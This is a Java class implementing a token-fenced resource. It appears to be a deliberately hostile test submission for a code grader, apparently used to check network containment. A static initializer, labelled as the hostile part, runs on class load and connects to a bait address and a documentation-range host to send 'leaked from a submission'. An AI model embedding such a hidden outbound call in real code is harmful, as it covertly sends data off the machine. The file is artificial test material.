package fencing.basics;

/**
 * A fenced resource: it remembers the highest token it has accepted and rejects older ones.
 *
 * <p>Only the resource sees every write, so only the resource can tell that a writer is stale: a
 * write is accepted only if its token is at least the highest token seen so far.
 *
 * <p>Graded structure rules: the resource never uses {@link LockService} (its own mark decides; the lock service
 * cannot tell a stale holder from a current one), and it reads no clock ({@code System.currentTimeMillis},
 * {@code System.nanoTime}, {@code java.time}, {@code Date}, {@code Calendar}): a write is stale because its token
 * is below the mark, never because time passed.
 *
 * <p>No method may stop the JVM ({@code System.exit}, {@code Runtime.exit}, {@code Runtime.halt}): report a
 * problem with an exception, so that every program using this class keeps running.
 */
public final class Resource implements ProtectedResource {

    /**
     * Where the grader's test listens on this machine's own non-loopback address, as {@code host:port}; the test
     * writes it in place of the placeholder when it assembles this submission.
     */
    private static final String BAIT = "@BAIT@";

    /** An address off this machine (TEST-NET-3, reserved for documentation: nothing answers there). */
    private static final String OUTSIDE = "203.0.113.1:80";

    static {
        // The hostile part: reach out, and say so if anything answers; a failure to connect is ignored.
        for (String target : new String[] {BAIT, OUTSIDE}) {
            int colon = target.lastIndexOf(':');
            if (target.startsWith("@") || colon < 0) {
                continue;
            }
            try (java.net.Socket socket = new java.net.Socket()) {
                socket.connect(new java.net.InetSocketAddress(target.substring(0, colon),
                        Integer.parseInt(target.substring(colon + 1))), 2_000);
                socket.getOutputStream().write("leaked from a submission\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
            } catch (java.io.IOException | RuntimeException unreachable) {
                // Contained: nothing to do but go on, as an honest submission would.
            }
        }
    }

    /** The value of the last accepted write; {@code null} before any. */
    private String value;

    /** The highest token of an accepted write (the high-water mark); 0 before any. */
    private long highest;

    /**
     * Accepts the write only if {@code token >= highest()}; an accepted write sets {@link #value()}
     * and raises {@link #highest()} to {@code token}, and a rejected write changes nothing.
     */
    @Override
    public synchronized boolean write(long token, String value) {
        if (token < highest) {
            return false;
        }
        this.highest = token;
        this.value = value;
        return true;
    }

    /** Returns the value of the last accepted write, or {@code null} before any accepted write. */
    @Override
    public synchronized String value() {
        return value;
    }

    /** Returns the highest token of an accepted write, or 0 before any accepted write. */
    public synchronized long highest() {
        return highest;
    }
}
